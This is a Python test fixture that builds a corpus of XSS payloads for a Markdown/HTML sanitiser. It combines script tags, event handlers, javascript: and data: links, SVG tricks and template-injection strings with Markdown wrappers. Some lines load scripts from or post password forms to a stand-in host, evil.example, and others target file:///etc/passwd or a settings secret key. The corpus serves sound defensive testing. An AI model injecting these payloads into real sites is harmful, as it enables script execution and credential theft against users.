"""Hostile input for the sanitiser (an XSS corpus), grouped by technique and combined
with wrappers.

Each case is (id, text, keep): `keep` is a piece of visible text the rendered
output must still show (escaped markup stays readable rather than vanishing),
or None where dropping is the right call (a forbidden link address).
"""

import re

# Ways to spell a script element.
SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script >alert(1)</script >",
    "<script\t>alert(1)</script>",
    "<script\n>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src='https://evil.example/x.js'></script>",
    "<script/src=data:,alert(1)></script>",
    '<script type="text/javascript">alert(1)</script>',
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "</script><script>alert(1)</script>",
    "<script>alert(1)",
    "<script",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<\x00script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "&#0000060;script&#0000062;alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "＜script＞alert(1)＜/script＞",
    "<script>/*</script><script>*/alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

EVENT_TAGS = [
    "img src=x",
    "svg",
    "body",
    "div",
    "a href=https://ok.example",
    "input autofocus",
    "details open",
    "video src=x",
    "audio src=x",
    "iframe",
    "marquee",
    "p",
    "b",
    "select autofocus",
    "textarea autofocus",
    "object data=x",
]
EVENT_HANDLERS = [
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
]
EVENT_SYNTAX = [
    "<{tag} {handler}=alert(1)>",
    '<{tag} {handler}="alert(1)">',
    "<{tag} {upper}='alert(1)'>",
    "<{tag}/{handler}=alert(1)//>",
    "<{tag}\n{handler}\n=\nalert(1)>",
    "<{tag} {handler}=`alert(1)`>",
    "<{tag} {handler}=alert&#40;1&#41;>",
]

# Link addresses that must never become an href.
BAD_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "java\x00script:alert(1)",
    "\x01javascript:alert(1)",
    "java&#x09;script:alert(1)",
    "java&#9;script:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106&#0000097vascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "%6A%61%76%61%73%63%72%69%70%74:alert(1)",
    "javascript%3Aalert(1)",
    "\\u006aavascript:alert(1)",
    "javascript://%0aalert(1)",
    "javascript://ok.example/%0aalert(1)",
    "javascript:alert(1)//https://ok.example",
    "ｊａｖａｓｃｒｉｐｔ:alert(1)",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "DATA:text/html,alert(1)",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "ftp://ok.example/x",
    "mailto:someone@ok.example",
    "//evil.example/x",
    "/relative/path",
    "../admin/",
    "#fragment",
    "?q=1",
    "http:alert(1)",
    "https:/evil.example",
    "feed:javascript:alert(1)",
]

URL_WRAPPERS = [
    ("md_link", "[Klick]({url})", "Klick"),
    ("md_link_angle", "[Klick](<{url}>)", "Klick"),
    ("md_link_title", '[Klick]({url} "Titel")', "Klick"),
    ("md_image", "![Bild]({url})", "Bild"),
    ("md_reference", "[Klick][r]\n\n[r]: {url}", "Klick"),
    ("md_autolink", "<{url}>", None),
    ("bare", "Siehe {url} hier", "Siehe"),
    ("html_a", '<a href="{url}">Klick</a>', "Klick"),
    ("html_a_single", "<a href='{url}'>Klick</a>", "Klick"),
    ("html_iframe", '<iframe src="{url}"></iframe>', "<iframe"),
    ("html_form", '<form action="{url}"><button>Los</button></form>', "Los"),
    ("html_img", '<img src="{url}">', "<img"),
    ("html_object", '<object data="{url}"></object>', "<object"),
]

# Elements that must never come through, each with markup inside or around.
FORBIDDEN_ELEMENTS = [
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,x#y></use></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<form action=https://evil.example><input name=password></form>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta charset="x-imap4-modified-utf7">',
    "<base href=https://evil.example/>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="import" href="https://evil.example/x.html">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="width:expression(alert(1))">x</div>',
    "<div style=\"background:url('javascript:alert(1)')\">x</div>",
    '<p style="behavior:url(x.htc)">x</p>',
    '<span style="-moz-binding:url(https://evil.example/x.xml#x)">x</span>',
    "<p style=x:expr/**/ession(alert(1))>x</p>",
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    "<isindex action=javascript:alert(1) type=image>",
    "<applet code=x></applet>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<noembed><script>alert(1)</script></noembed>",
    "<h1>Titel</h1>",
    "<img src=x>",
    "<pre><code>x</code></pre>",
    "<table><tr><td>x</td></tr></table>",
    "<hr>",
    "<input type=hidden name=x>",
    "<button>x</button>",
    "<dialog open>x</dialog>",
    "<portal src=https://evil.example>",
]

# Comments, CDATA, processing instructions and broken markup.
MALFORMED = [
    "<!--<script>alert(1)</script>-->",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--><script>alert(1)</script>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<?php echo 1; ?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<img src=x onerror=alert(1)",
    "<img src=x onerror=alert(1)//",
    "<a href='https://ok.example' onclick='alert(1)",
    "<a href=https://ok.example onclick=alert(1)>x",
    "<div><p><b><i>x",
    "</p></div></body></html><script>alert(1)</script>",
    "<p<img src=x onerror=alert(1)>>",
    "<a <script>alert(1)</script>>",
    '<img """><script>alert(1)</script>">',
    "<img src=`x`onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    '<img src="x"onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror\x00=alert(1)>",
    "<img\x00src=x onerror=alert(1)>",
    "<im\x00g src=x onerror=alert(1)>",
    '<a href="https://ok.example" title=\'"><script>alert(1)</script>\'>x</a>',
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "`><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<<img src=x onerror=alert(1)>",
    "<\u202escript>alert(1)</script>",
    "<scrip\u2066t>alert(1)</script>",
]

# Markdown syntax that carries markup or addresses in unusual places.
MARKDOWN_MIXES = [
    ("md_strong_img", "**<img src=x onerror=alert(1)>**", "<img"),
    ("md_em_script", "*<script>alert(1)</script>*", "<script"),
    ("md_quote_script", "> <script>alert(1)</script>", "<script"),
    ("md_list_svg", "- <svg onload=alert(1)>", "<svg"),
    ("md_olist_iframe", "1. <iframe src=javascript:alert(1)>", "<iframe"),
    ("md_link_text_img", "[<img src=x onerror=alert(1)>](https://ok.example)", "<img"),
    (
        "md_link_then_script",
        "[x](https://ok.example)<script>alert(1)</script>",
        "<script",
    ),
    ("md_em_bad_link", "*[Klick](javascript:alert(1))*", "Klick"),
    ("md_nested_link", "[[Klick](javascript:alert(1))](https://ok.example)", "Klick"),
    ("md_link_in_link", "[a [b](javascript:alert(1))](javascript:alert(2))", "a"),
    (
        "md_title_breakout",
        '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")',
        "x",
    ),
    ("md_url_quote", '[x](https://ok.example/" onmouseover="alert(1))', "x"),
    ("md_url_apostrophe", "[x](https://ok.example/'onmouseover='alert(1))", "x"),
    ("md_url_backtick", "[x](https://ok.example/`onmouseover=`alert(1))", "x"),
    ("md_url_angle", "[x](https://ok.example/<script>alert(1)</script>)", "x"),
    ("bare_url_quote", 'https://ok.example/"onmouseover="alert(1)', "onmouseover"),
    ("bare_url_angle", "https://ok.example/<script>alert(1)</script>", "<script"),
    ("bare_url_apostrophe", "https://ok.example/'onmouseover='alert(1)", "onmouseover"),
    ("md_ref_bad", "[Klick][1]\n\n[1]: javascript:alert(1)", "Klick"),
    ("md_ref_title", '[Klick][1]\n\n[1]: https://ok.example "x" onclick="y"', "Klick"),
    ("md_ref_image", "![Bild][1]\n\n[1]: javascript:alert(1)", "Bild"),
    ("md_ref_shortcut", "[javascript:alert(1)]\n\n[javascript:alert(1)]: x", None),
    ("md_heading", "# <script>alert(1)</script>", "<script"),
    ("md_setext", "<script>alert(1)</script>\n===", "<script"),
    ("md_code_span", "`<script>alert(1)</script>`", "<script"),
    ("md_code_block", "    <script>alert(1)</script>", "<script"),
    ("md_fenced", "```\n<script>alert(1)</script>\n```", "<script"),
    ("md_html_block", "<div>\n*x*\n</div>", "<div"),
    ("md_html_block_md", '<div markdown="1">[x](javascript:alert(1))</div>', "<div"),
    ("md_automail", "<someone@ok.example>", "someone@ok.example"),
    ("md_automail_js", "<javascript:alert(1)@ok.example>", "alert(1)"),
    ("md_escape_lt", "\\<script>alert(1)\\</script>", "script"),
    ("md_entity_lt", "&lt;script&gt;alert(1)", "<script"),
    ("md_table", "| a | b |\n|---|---|\n| <script> | x |", "<script"),
    ("md_footnote", "x[^1]\n\n[^1]: <script>alert(1)</script>", "<script"),
    ("md_attr_list", "Absatz\n{: onclick=alert(1) }", "onclick"),
    ("md_abbr", "*[HTML]: <script>alert(1)</script>", "<script"),
]

# Template syntax: must arrive as plain text, never evaluated.
TEMPLATES = [
    "{{ 7*7 }}",
    "{{7*'7'}}",
    "{% debug %}",
    "{% load static %}{% static 'x' %}",
    "{{ request.user.password }}",
    "{{ settings.SECRET_KEY }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "[[${7*7}]]",
]

# Characters that disguise text.
DISGUISES = [
    ("rtl_override_link", "[\u202egnp.exe](https://ok.example)", "gnp.exe"),
    ("rtl_override_text", "Datei \u202efdp.exe", "fdp.exe"),
    ("rtl_isolate", "\u2067abc\u2069 \u2066x\u2069", "abc"),
    ("rtl_in_url", "https://ok.example/\u202egnp", "ok.example"),
    ("nul_text", "Hal\x00lo", "Hallo"),
    ("controls", "A\x07\x08\x1b[31mB", "A"),
    ("line_separator", "a\u2028b\u2029c", "a"),
    ("lone_surrogate", "x\ud800y", "x"),
    ("zero_width_script", "<scr\u200bipt>alert(1)</script>", "alert(1)"),
    ("homoglyph_script", "<ѕcript>alert(1)</ѕcript>", "alert(1)"),
]

# Length and nesting attacks, kept within what a topic may hold.
OVERLONG = [
    ("long_script", "<script>" + "a" * 9000 + "</script>", "<script"),
    ("many_tags", "<b>" * 2000, "<b>"),
    ("many_opening_brackets", "[" * 5000, "[["),
    ("many_parens", "(" * 5000, "(("),
    ("nested_brackets", "[" * 2500 + "x" + "]" * 2500, "x"),
    ("many_link_starts", "[x](" * 2000, "[x]"),
    ("many_stars", "*a" * 4000, "a"),
    ("nested_quotes", "> " * 1000 + "x", "x"),
    ("nested_lists", "\n".join("    " * i + "- x" for i in range(60)), "x"),
    ("many_links", "[x](https://ok.example) " * 400, "x"),
    ("many_bare_urls", "https://ok.example/ " * 400, "ok.example"),
    ("long_url", "https://ok.example/" + "a" * 8000, "ok.example"),
    ("many_entities", "&#60;" * 2000, "<<"),
    ("many_lt", "<" * 5000, "<<"),
]

WRAPPERS = [
    ("plain", "{p}"),
    ("strong", "**{p}**"),
    ("emphasis", "*{p}*"),
    ("quote", "> {p}"),
    ("bullet", "- {p}"),
    ("numbered", "1. {p}"),
    ("sentence", "Frische Milch {p} vom Hof"),
    ("link_text", "[{p}](https://ok.example)"),
    ("paragraphs", "Erster Absatz\n\n{p}\n\nLetzter Absatz"),
]


def _visible(payload: str) -> str | None:
    """A piece of the payload that must stay readable: its first tag's opening."""
    match = re.search(r"<[/!?]*[A-Za-z]*", payload)
    return match.group(0) if match else None


def xss_cases() -> list[tuple[str, str, str | None]]:
    """The corpus; wrappers and syntaxes rotate over payloads to stay quick."""
    corpus = []
    raw_markup = [*SCRIPT_TAGS, *FORBIDDEN_ELEMENTS, *MALFORMED]
    for index, payload in enumerate(raw_markup):
        keep = _visible(payload.replace("\x00", "").replace("\u202e", ""))
        # Each payload alone and in two of the wrappers, in turn.
        rotation = dict.fromkeys(
            [
                WRAPPERS[0],
                WRAPPERS[1 + index % (len(WRAPPERS) - 1)],
                WRAPPERS[1 + (index + 4) % (len(WRAPPERS) - 1)],
            ]
        )
        for name, wrapper in rotation:
            corpus.append((f"markup{index}-{name}", wrapper.format(p=payload), keep))
    for tag_index, tag in enumerate(EVENT_TAGS):
        for handler_index, handler in enumerate(EVENT_HANDLERS):
            for offset in (0, 3):
                number = (tag_index + handler_index + offset) % len(EVENT_SYNTAX)
                syntax = EVENT_SYNTAX[number]
                text = syntax.format(tag=tag, handler=handler, upper=handler.upper())
                name = tag.split()[0]
                corpus.append((f"event-{name}-{handler}-{number}", text, "<" + name))
    for index, url in enumerate(BAD_URLS):
        for name, wrapper, keep in URL_WRAPPERS:
            corpus.append((f"url{index}-{name}", wrapper.format(url=url), keep))
    for name, text, keep in [*MARKDOWN_MIXES, *DISGUISES, *OVERLONG]:
        corpus.append((name, text, keep))
    for index, text in enumerate(TEMPLATES):
        for name, wrapper in WRAPPERS[:4]:
            corpus.append((f"template{index}-{name}", wrapper.format(p=text), None))
    return corpus


TEMPLATE_CASES = TEMPLATES
